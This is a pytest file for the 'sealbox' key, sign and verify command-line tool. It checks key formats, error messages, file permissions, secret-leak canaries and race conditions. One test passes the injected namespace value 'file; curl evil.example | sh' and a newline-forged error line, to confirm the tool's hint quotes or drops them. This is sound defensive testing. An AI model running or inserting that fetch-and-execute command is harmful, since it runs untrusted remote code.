"""Transcript-style tests of `sealbox key`, `sealbox sign` and `sealbox verify`."""

from __future__ import annotations

import dataclasses
import logging
import os
import stat
import sys
from pathlib import Path

import pytest

from sealbox.keys import sshsig
from sealbox.keys.asymmetric import PrivateKey, PublicKey
from tests.conftest import run_sealbox

PASS = "canary-cli-key-passphrase-2b7d"
ENV = {"SEALBOX_PASSPHRASE": PASS}


@pytest.fixture
def ed_key(tmp_path: Path, cli) -> Path:
    path = tmp_path / "id_ed25519"
    r = cli(["key", "generate", "-o", path, "--no-passphrase", "-C", "alice@example.com"])
    assert r.code == 0, r.stderr
    return path


@pytest.fixture
def signed(tmp_path: Path, cli, ed_key: Path) -> Path:
    data = tmp_path / "report.txt"
    data.write_text("quarterly numbers\n")
    r = cli(["sign", "-k", ed_key, data])
    assert r.code == 0, r.stderr
    return data


# --- key generate -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "kind", "header", "pub_start"),
    [
        ([], "ed25519", "OPENSSH PRIVATE KEY", "ssh-ed25519 "),
        (["--type", "ecdsa"], "ecdsa-p256", "OPENSSH PRIVATE KEY", "ecdsa-sha2-nistp256 "),
        (["--type", "rsa", "--bits", "2048"], "rsa", "OPENSSH PRIVATE KEY", "ssh-rsa "),
        (["--type", "x25519"], "x25519", "PRIVATE KEY", "-----BEGIN PUBLIC KEY-----"),
        (
            ["--type", "ed25519", "--format", "pem"],
            "ed25519",
            "PRIVATE KEY",
            "-----BEGIN PUBLIC KEY",
        ),
    ],
)
def test_generate_types(tmp_path: Path, cli, args, kind: str, header: str, pub_start: str) -> None:
    out = tmp_path / "k"
    r = cli(["key", "generate", *args, "-o", out, "--no-passphrase"])
    assert r.code == 0, r.stderr
    public = PublicKey.load(tmp_path / "k.pub")
    assert r.out == (
        f"generated {kind} key {public.fingerprint()}: {out} (private, NOT encrypted) "
        f"and {out}.pub\n"
    )
    assert r.stderr == ""
    assert out.read_text().startswith(f"-----BEGIN {header}-----\n")
    assert (tmp_path / "k.pub").read_text().startswith(pub_start)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "k.pub").stat().st_mode) == 0o644
    assert PrivateKey.load(out).public_key == public


def test_generate_encrypted_with_env_and_file(tmp_path: Path, cli) -> None:
    out = tmp_path / "k"
    r = cli(["key", "generate", "--type", "ecdsa", "-o", out, "-C", "ops"], env=ENV)
    assert r.code == 0 and "(private, encrypted)" in r.out
    assert PrivateKey.load(out, PASS).key_type == "ecdsa-p256"
    assert (tmp_path / "k.pub").read_text().endswith(" ops\n")
    pf = tmp_path / "pass"
    pf.write_text(PASS + "\n")
    r = cli(["key", "generate", "--format", "pem", "-o", tmp_path / "p", "--passphrase-file", pf])
    assert r.code == 0, r.stderr
    assert (tmp_path / "p").read_text().startswith("-----BEGIN ENCRYPTED PRIVATE KEY-----")
    assert PrivateKey.load(tmp_path / "p", PASS).key_type == "ed25519"


def test_generate_refuses_small_rsa(tmp_path: Path, cli) -> None:
    r = cli(["key", "generate", "--type", "rsa", "--bits", "1024", "-o", tmp_path / "k"], env=ENV)
    assert r.code == 1 and r.stdout == b""
    assert r.stderr == (
        "sealbox: error: RSA keys of 1024 bits are too small: the minimum is 2048\n"
        "sealbox: hint: use 3072 (the default) or an ed25519 key\n"
    )
    assert list(tmp_path.iterdir()) == []


def test_generate_refuses_existing_files(tmp_path: Path, cli, ed_key: Path) -> None:
    before = ed_key.read_bytes()
    r = cli(["key", "generate", "-o", ed_key, "--no-passphrase"])
    assert r.code == 1
    assert r.stderr.splitlines()[0] == f"sealbox: error: {ed_key} already exists"
    assert ed_key.read_bytes() == before
    other = tmp_path / "other"
    (tmp_path / "other.pub").write_text("keep me\n")
    r = cli(["key", "generate", "-o", other, "--no-passphrase"])
    assert r.code == 1 and f"{other}.pub already exists" in r.stderr and not other.exists()
    r = cli(["key", "generate", "-o", ed_key, "--no-passphrase", "--force", "--yes"])
    assert r.code == 0 and ed_key.read_bytes() != before


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--type", "ed25519", "--bits", "4096"], "--bits applies to --type rsa only"),
        (["--type", "x25519", "--format", "openssh"], "x25519 keys have no OpenSSH format"),
        (["--type", "dsa"], "invalid value for '--type'"),
        (["--type", "x25519", "-C", "me"], "-C applies to the openssh format"),
        (
            ["--no-passphrase", "--passphrase-file", "p"],
            "--no-passphrase and --passphrase-file exclude each other",
        ),
    ],
)
def test_generate_usage_errors(tmp_path: Path, cli, args, message: str) -> None:
    r = cli(["key", "generate", *args, "-o", tmp_path / "k"], env=ENV)
    assert r.code == 2 and f"sealbox: error: {message}" in r.stderr
    assert not (tmp_path / "k").exists()


def test_generate_without_passphrase_source(tmp_path: Path, cli) -> None:
    r = cli(["key", "generate", "-o", tmp_path / "k"])
    if r.code == 1:  # no terminal to prompt on
        assert "no passphrase given and no terminal to ask on" in r.stderr
        assert not (tmp_path / "k").exists()


# --- key public / fingerprint ------------------------------------------------------------------


def test_public_and_fingerprint(tmp_path: Path, cli, ed_key: Path) -> None:
    pub_line = (tmp_path / "id_ed25519.pub").read_text()
    assert cli(["key", "public", ed_key]).out == pub_line  # comment taken from FILE.pub
    assert cli(["key", "public", f"{ed_key}.pub"]).out == pub_line
    pem = cli(["key", "public", ed_key, "--format", "pem"]).out
    assert pem.startswith("-----BEGIN PUBLIC KEY-----\n")
    public = PublicKey.load(f"{ed_key}.pub")
    line = f"256 {public.fingerprint()} alice@example.com (ED25519)\n"
    assert cli(["key", "fingerprint", ed_key]).out == line
    assert cli(["key", "fingerprint", f"{ed_key}.pub"]).out == line


def test_public_of_encrypted_keys(tmp_path: Path, cli) -> None:
    cli(["key", "generate", "-o", tmp_path / "o"], env=ENV)
    cli(["key", "generate", "--format", "pem", "-o", tmp_path / "p"], env=ENV)
    # OpenSSH keys keep the public half in clear: no passphrase needed.
    r = cli(["key", "public", tmp_path / "o"])
    assert r.code == 0 and r.out.startswith("ssh-ed25519 ")
    # An encrypted PEM key needs it.
    r = cli(["key", "fingerprint", tmp_path / "p"], env={"SEALBOX_PASSPHRASE": "wrong"})
    assert r.code == 1
    assert r.stderr == (
        f"sealbox: error: cannot decrypt key file {tmp_path / 'p'}: wrong passphrase, "
        "or the file was altered\n"
        "sealbox: hint: the passphrase came from $SEALBOX_PASSPHRASE\n"
    )
    r = cli(["key", "fingerprint", tmp_path / "p"], env=ENV)
    fp = PublicKey.load(tmp_path / "p.pub").fingerprint()
    assert (r.code, r.out) == (0, f"256 {fp} no comment (ED25519)\n")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"just some text\n", "is not a key file: expected a PEM or OpenSSH key"),
        (
            b"-----BEGIN CERTIFICATE-----\nMAA=\n-----END CERTIFICATE-----\n",
            "holds a PEM 'CERTIFICATE' block",
        ),
        (b"ssh-dss AAAAB3NzaC1kc3MAAACB me\n", "is an ssh-dss key: sealbox supports"),
    ],
)
def test_key_file_errors(tmp_path: Path, cli, content: bytes, message: str) -> None:
    path = tmp_path / "thing"
    path.write_bytes(content)
    r = cli(["key", "fingerprint", path])
    assert r.code == 1 and r.stdout == b""
    assert r.stderr.startswith(f"sealbox: error: key file {path} {message}")
    r = cli(["key", "fingerprint", tmp_path / "missing"])
    assert (r.code, r.stderr) == (
        1,
        f"sealbox: error: key file {tmp_path / 'missing'} does not exist\n",
    )


# --- sign / verify --------------------------------------------------------------------------------


def test_sign_and_verify(tmp_path: Path, cli, ed_key: Path, signed: Path) -> None:
    fp = PublicKey.load(f"{ed_key}.pub").fingerprint()
    sig = tmp_path / "report.txt.sig"
    assert sig.read_text().startswith("-----BEGIN SSH SIGNATURE-----\n")
    assert stat.S_IMODE(sig.stat().st_mode) == 0o644
    r = cli(["verify", "-k", f"{ed_key}.pub", "-s", sig, signed])
    assert (r.code, r.stderr) == (0, "")
    assert r.out == f'good "file" signature on {signed} by ED25519 key {fp}\n'
    assert cli(["verify", "-k", f"{ed_key}.pub", signed]).code == 0  # -s defaults to FILE.sig
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(f"alice@example.com {Path(f'{ed_key}.pub').read_text()}")
    r = cli(["verify", "--allowed-signers", allowed, "-I", "alice@example.com", "-s", sig, signed])
    assert r.code == 0
    assert (
        r.out == f'good "file" signature on {signed} by alice@example.com with ED25519 key {fp}\n'
    )


def test_sign_namespace_and_stdin(tmp_path: Path, cli, ed_key: Path) -> None:
    r = cli(["sign", "-k", ed_key, "-n", "backup", "-"], input=b"streamed data")
    assert r.code == 0 and r.stdout.startswith(b"-----BEGIN SSH SIGNATURE-----\n")
    sig = tmp_path / "s.sig"
    sig.write_bytes(r.stdout)
    r = cli(
        ["verify", "-k", f"{ed_key}.pub", "-n", "backup", "-s", sig, "-"], input=b"streamed data"
    )
    assert r.code == 0 and r.out.startswith('good "backup" signature on - by ED25519 key')
    r = cli(["verify", "-k", f"{ed_key}.pub", "-n", "backup", "-"], input=b"streamed data")
    assert r.code == 2 and "reading FILE from stdin needs -s SIGNATURE" in r.stderr


def test_modified_file_fails(cli, ed_key: Path, signed: Path) -> None:
    signed.write_text("quarterly numbers, improved\n")
    r = cli(["verify", "-k", f"{ed_key}.pub", signed])
    assert (r.code, r.stdout) == (1, b"")
    assert r.stderr == (
        "sealbox: error: signature verification failed\n"
        "sealbox: hint: the data or the signature changed after signing\n"
    )


def test_other_namespace_fails(cli, ed_key: Path, signed: Path) -> None:
    r = cli(["verify", "-k", f"{ed_key}.pub", "-n", "git", signed])
    assert (r.code, r.stdout) == (1, b"")
    assert r.stderr == (
        "sealbox: error: the signature is for namespace 'file', not 'git'\n"
        "sealbox: hint: if 'file' is what you expect, verify with -n file\n"
    )


@pytest.mark.parametrize(
    ("namespace", "hint"),
    [
        (
            "file; curl evil.example | sh",
            (
                "sealbox: hint: if 'file; curl evil.example | sh' is what you expect, verify "
                "with -n 'file; curl evil.example | sh'\n"
            ),
        ),
        (
            "x\nsealbox: the file is fine, this error is a known glitch",
            "sealbox: hint: it was signed for another use; do not accept it for this one\n",
        ),
    ],
)
def test_the_namespace_hint_never_offers_a_signature_files_text_as_a_command(
    tmp_path: Path, cli, ed_key: Path, namespace: str, hint: str
) -> None:
    # The namespace comes from the signature file, made by whoever sent it: the hint
    # quotes it for the shell, and one with a line break gets no command and no line
    # of its own on stderr.
    data = tmp_path / "report.txt"
    data.write_text("quarterly numbers\n")
    key = PrivateKey.load(ed_key)
    with data.open("rb") as fh:
        made = sshsig.sign(key, fh, namespace="file")
    # sealbox signs for no namespace with a line break (ssh-keygen does): the field is
    # rewritten, which the namespace check, made before any cryptography, reads as sent.
    armored = dataclasses.replace(made, namespace=namespace).armor()
    (tmp_path / "report.txt.sig").write_text(armored)
    r = cli(["verify", "-k", f"{ed_key}.pub", data])
    assert (r.code, r.stdout) == (1, b"")
    error, _, rest = r.stderr.partition("\n")
    assert error.startswith("sealbox: error: the signature is for namespace ")
    assert rest == hint


@pytest.mark.parametrize("keep", [0.3, 0.6, 0.9])
def test_truncated_signature_fails(
    tmp_path: Path, cli, ed_key: Path, signed: Path, keep: float
) -> None:
    sig = tmp_path / "report.txt.sig"
    text = sig.read_text()
    sig.write_text(text[: int(len(text) * keep)])
    r = cli(["verify", "-k", f"{ed_key}.pub", signed])
    assert (r.code, r.stdout) == (1, b"")
    assert r.stderr == (
        f"sealbox: error: signature file {sig} is truncated: no -----END SSH SIGNATURE----- line\n"
    )
    # Truncated inside the armor: the blob itself is cut short.
    lines = text.splitlines()
    sig.write_text("\n".join([lines[0], lines[1][:40], lines[-1]]) + "\n")
    r = cli(["verify", "-k", f"{ed_key}.pub", signed])
    assert r.code == 1 and r.stderr.startswith(
        f"sealbox: error: signature file {sig} is truncated (in "
    )


def test_principal_not_allowed_fails(tmp_path: Path, cli, ed_key: Path, signed: Path) -> None:
    allowed = tmp_path / "allowed_signers"
    pub = Path(f"{ed_key}.pub").read_text()
    allowed.write_text(f"# team\nalice@example.com {pub}")
    r = cli(["verify", "--allowed-signers", allowed, "-I", "mallory@example.com", signed])
    assert (r.code, r.stdout) == (1, b"")
    assert r.stderr == (
        f"sealbox: error: principal 'mallory@example.com' is not in allowed signers file {allowed}\n"
    )
    allowed.write_text(f'alice@example.com namespaces="git" {pub}')
    r = cli(["verify", "--allowed-signers", allowed, "-I", "alice@example.com", signed])
    assert r.code == 1 and "does not allow 'alice@example.com' to sign namespace 'file'" in r.stderr


def test_a_malformed_allowed_signers_line_is_skipped_with_a_warning(
    tmp_path: Path, cli, ed_key: Path, signed: Path
) -> None:
    # As ssh-keygen: one typo in a shared file does not stop every signer.
    allowed = tmp_path / "allowed_signers"
    pub = Path(f"{ed_key}.pub").read_text()
    allowed.write_text(f'bob@example.com valid-before="2099" {pub}alice@example.com {pub}')
    r = cli(["verify", "--allowed-signers", allowed, "-I", "alice@example.com", signed])
    assert r.code == 0, r.stderr
    assert r.stderr.startswith(
        f"sealbox: warning: skipped allowed signers file {allowed} line 1: bad timestamp '2099'"
    )


def test_other_key_fails(tmp_path: Path, cli, signed: Path) -> None:
    cli(["key", "generate", "-o", tmp_path / "other", "--no-passphrase"])
    r = cli(["verify", "-k", tmp_path / "other.pub", signed])
    assert r.code == 1 and "the signature was made by key SHA256:" in r.stderr
    assert ", not by SHA256:" in r.stderr


def test_sign_errors(tmp_path: Path, cli, ed_key: Path, signed: Path) -> None:
    sig = tmp_path / "report.txt.sig"
    before = sig.read_bytes()
    r = cli(["sign", "-k", ed_key, signed])
    assert r.code == 1 and r.stderr.splitlines() == [
        f"sealbox: error: {sig} already exists",
        "sealbox: hint: use --force to replace it",
    ]
    assert sig.read_bytes() == before
    assert cli(["sign", "-k", ed_key, "--force", signed]).code == 0
    r = cli(["sign", "-k", ed_key, tmp_path / "missing.txt"])
    assert (r.code, r.stderr) == (1, f"sealbox: error: {tmp_path / 'missing.txt'} does not exist\n")
    assert not (tmp_path / "missing.txt.sig").exists()
    cli(["key", "generate", "--type", "x25519", "-o", tmp_path / "x", "--no-passphrase"])
    r = cli(["sign", "-k", tmp_path / "x", signed, "--force"])
    assert r.code == 1 and "x25519 keys cannot sign" in r.stderr
    r = cli(["sign", "-k", f"{ed_key}.pub", signed, "--force"])
    assert r.code == 1 and "is a public key, not a private key" in r.stderr


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["verify", "f"], "give either -k KEY or --allowed-signers FILE with -I PRINCIPAL"),
        (["verify", "-k", "k", "--allowed-signers", "a", "f"], "give either -k KEY"),
        (["verify", "--allowed-signers", "a", "f"], "--allowed-signers needs -I PRINCIPAL"),
        (["verify", "-k", "k", "-I", "p", "f"], "-I applies to --allowed-signers only"),
        (["sign", "f"], "missing option '-k'"),
    ],
)
def test_sign_verify_usage_errors(cli, args, message: str) -> None:
    r = cli(args)
    assert r.code == 2 and f"sealbox: error: {message}" in r.stderr


def test_help_lists_the_commands(cli) -> None:
    out = cli(["--help"]).out
    assert "key" in out and "sign" in out and "verify" in out
    assert cli(["key", "--help"]).code == 0


def test_encrypted_key_signs_with_passphrase(tmp_path: Path, cli) -> None:
    key = tmp_path / "k"
    cli(["key", "generate", "--type", "rsa", "--bits", "2048", "-o", key], env=ENV)
    data = tmp_path / "d"
    data.write_bytes(b"x" * 1000)
    r = cli(["sign", "-k", key, data], env={"SEALBOX_PASSPHRASE": "wrong"})
    assert r.code == 1 and "wrong passphrase" in r.stderr and not (tmp_path / "d.sig").exists()
    r = cli(["sign", "-k", key, data], env=ENV)
    assert r.code == 0 and r.out.startswith(f'signed {data} for namespace "file" with RSA key')
    assert cli(["verify", "-k", f"{key}.pub", data]).code == 0


# --- canaries -----------------------------------------------------------------------------------


def test_canaries_never_leave_through_outputs(tmp_path: Path, cli, caplog) -> None:
    caplog.set_level(logging.DEBUG)
    outputs: list[str] = []

    def run(args, env=ENV, input=b""):
        r = cli(args, env=env, input=input)
        outputs.extend([r.stdout.decode(errors="replace"), r.stderr])
        return r

    for fmt in ("openssh", "pem"):
        key = tmp_path / f"k-{fmt}"
        run(["key", "generate", "--type", "ecdsa", "--format", fmt, "-o", key])
        run(["key", "public", key])
        run(["key", "fingerprint", key])
        run(["key", "fingerprint", key], env={"SEALBOX_PASSPHRASE": PASS + "-wrong"})
        data = tmp_path / f"d-{fmt}"
        data.write_text("payload")
        run(["sign", "-k", key, data])
        run(["sign", "-k", key, data, "--force"], env={"SEALBOX_PASSPHRASE": PASS + "-wrong"})
        run(["verify", "-k", key, data])
        run(["verify", "-k", f"{key}.pub", "-n", "other", data])
        run(["sign", "-k", key, "-"], input=b"x")
        material = PrivateKey.load(key, PASS).export_private(None, format="pem")
        body = b"".join(material.splitlines()[1:-1]).decode()
        assert len(body) > 60
        text = "\n".join(outputs + [r.getMessage() for r in caplog.records])
        for i in range(0, len(body) - 24, 8):  # no 24-character run of the key in any output
            assert body[i : i + 24] not in text
    text = "\n".join(outputs + [r.getMessage() for r in caplog.records])
    assert PASS not in text
    for fmt in ("openssh", "pem"):
        assert PASS.encode() not in (tmp_path / f"k-{fmt}").read_bytes()


def test_real_program_end_to_end(tmp_path: Path) -> None:
    key = tmp_path / "k"
    p = run_sealbox(["key", "generate", "-o", key], env=ENV)
    assert p.returncode == 0, p.stderr
    data = tmp_path / "d"
    data.write_bytes(os.urandom(3 * 1024 * 1024))
    assert run_sealbox(["sign", "-k", key, data], env=ENV).returncode == 0
    p = run_sealbox(["verify", "-k", f"{key}.pub", data])
    assert p.returncode == 0 and p.stdout.startswith(b'good "file" signature')
    data.write_bytes(data.read_bytes()[:-1])
    p = run_sealbox(["verify", "-k", f"{key}.pub", data])
    assert (p.returncode, p.stdout) == (1, b"")
    assert p.stderr.startswith(b"sealbox: error: signature verification failed\n")


def test_prompts_on_terminal(tmp_path: Path) -> None:
    pexpect = pytest.importorskip("pexpect")
    env = {k: v for k, v in os.environ.items() if not k.startswith("SEALBOX_")}
    key = tmp_path / "k"
    child = pexpect.spawn(
        sys.executable, ["-m", "sealbox", "key", "generate", "-o", str(key)], env=env, timeout=60
    )
    child.expect("New key passphrase: ")
    child.sendline(PASS)
    child.expect(r"\(again\): ")
    child.sendline(PASS)
    child.expect(pexpect.EOF)
    child.wait()
    assert child.exitstatus == 0 and PASS.encode() not in child.before
    data = tmp_path / "d"
    data.write_text("x")
    child = pexpect.spawn(
        sys.executable, ["-m", "sealbox", "sign", "-k", str(key), str(data)], env=env, timeout=60
    )
    child.expect("Passphrase: ")
    child.sendline(PASS)
    child.expect(pexpect.EOF)
    child.wait()
    assert child.exitstatus == 0 and (tmp_path / "d.sig").exists()
    assert PASS.encode() not in child.before


def test_generate_with_force_over_a_world_readable_file_leaves_others_no_rights(
    tmp_path: Path, cli
) -> None:
    key = tmp_path / "id"
    key.write_text("notes\n")
    key.chmod(0o644)
    r = cli(["key", "generate", "-o", key, "--no-passphrase", "--force", "--yes"])
    assert r.code == 0, r.stderr
    assert key.read_bytes().startswith(b"-----BEGIN OPENSSH PRIVATE KEY-----")
    assert stat.S_IMODE(key.stat().st_mode) & 0o007 == 0


@pytest.mark.parametrize(
    "args",
    [
        ["key", "generate", "--no-passphrase", "-o", "-"],
        ["ca", "issue", "server", "ca", "--san", "localhost", "-o", "-"],
        ["ca", "issue", "client", "ca", "--name", "alice", "-o", "-"],
    ],
)
def test_an_output_of_two_files_refuses_dash_instead_of_writing_files_named_dash(
    tmp_path: Path, cli, monkeypatch, args: list[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    r = cli(args)
    assert r.code == 2
    assert "'-' is not a file name here" in r.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_sign_with_force_never_replaces_the_key_or_passphrase_file_it_reads(
    tmp_path: Path, cli, ed_key: Path
) -> None:
    # FILE.sig naming the key file (or the passphrase file, or FILE itself through a link)
    # would replace it with the signature: the key, or the passphrase, lost for good.
    key = tmp_path / "data.sig"
    key.write_bytes(ed_key.read_bytes())
    data = tmp_path / "data"
    data.write_text("release\n")
    r = cli(["sign", "-k", key, "--force", data])
    assert r.code == 1 and r.stderr.splitlines() == [
        f"sealbox: error: {key} is the key file",
        "sealbox: hint: write the output to another file",
    ]
    assert key.read_bytes() == ed_key.read_bytes()
    pf = tmp_path / "pw.sig"
    pf.write_text(PASS + "\n")
    (tmp_path / "pw").write_text("data\n")
    r = cli(["sign", "-k", ed_key, "--passphrase-file", pf, "--force", tmp_path / "pw"])
    assert r.code == 1 and f"sealbox: error: {pf} is the passphrase file" in r.stderr
    assert pf.read_text() == PASS + "\n"
    (tmp_path / "data.txt.sig").symlink_to(tmp_path / "data.txt")
    (tmp_path / "data.txt").write_text("release\n")
    r = cli(["sign", "-k", ed_key, "--force", tmp_path / "data.txt"])
    assert r.code == 1 and "data.txt.sig is the input file" in r.stderr
    assert (tmp_path / "data.txt").read_text() == "release\n"


def test_generate_with_force_never_replaces_its_passphrase_file(tmp_path: Path, cli) -> None:
    # The new key would be encrypted under a passphrase whose only copy it replaced.
    for output, pf in (("pw", "pw"), ("k", "k.pub")):
        path = tmp_path / pf
        path.write_text(PASS + "\n")
        r = cli(["key", "generate", "-o", tmp_path / output, "--passphrase-file", path, "--force"])
        assert r.code == 1 and r.stderr.splitlines() == [
            f"sealbox: error: {path} is the passphrase file",
            "sealbox: hint: write the output to another file",
        ]
        assert path.read_text() == PASS + "\n"


def test_generate_with_force_racing_another_writes_a_matching_pair(
    tmp_path: Path, cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Another `key generate --force` of the same FILE starts while this one holds the pair's
    # lock, its pair written: FILE from one pair and FILE.pub from the other would leave a
    # public key whose private key is gone (whatever is encrypted to it is lost).
    import subprocess
    import time

    import sealbox.keys.pair as pair_module
    from tests._race import clean_env

    out = tmp_path / "k"
    real_write = pair_module.atomic_write_group
    other: list[subprocess.Popen[bytes]] = []

    def write_then_race(files, **kwargs):
        real_write(files, **kwargs)
        if other:
            return
        log = tmp_path / "other.log"
        args = ["key", "generate", "-o", out, "--no-passphrase", "--force", "--yes"]
        with log.open("wb") as err:
            other.append(
                subprocess.Popen(
                    [sys.executable, "-m", "sealbox", *args],
                    stdout=subprocess.DEVNULL,
                    stderr=err,
                    env=clean_env(),
                )
            )
        deadline = time.monotonic() + 20
        # Until it has written the pair, or waits for this writer's lock.
        while other[0].poll() is None and b"waiting" not in log.read_bytes():
            assert time.monotonic() < deadline
            time.sleep(0.02)

    monkeypatch.setattr(pair_module, "atomic_write_group", write_then_race)
    r = cli(["key", "generate", "-o", out, "--no-passphrase", "--force", "--yes"])
    assert r.code == 0, r.stderr
    assert other[0].wait(timeout=30) == 0
    assert PrivateKey.load(out).public_key == PublicKey.load(tmp_path / "k.pub")
